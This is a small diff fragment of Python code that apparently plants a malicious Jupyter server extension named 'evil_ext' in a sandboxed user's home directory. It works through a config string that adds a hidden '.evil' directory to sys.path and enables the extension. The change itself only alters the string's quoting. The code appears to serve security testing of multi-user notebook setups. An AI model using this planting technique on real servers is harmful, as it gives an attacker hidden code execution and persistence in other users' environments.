@@ -69,11 +69,11 @@ def _jupyter_server_extension_points():
     return [{"module": "evil_ext"}]
 '''
 
-CONFIG = '''
+CONFIG = """
 import sys
 sys.path.insert(0, "/home/jovyan/.evil")
 c.ServerApp.jpserver_extensions = {"evil_ext": True}
-'''
+"""
 
 
 def plant(sandbox, username):
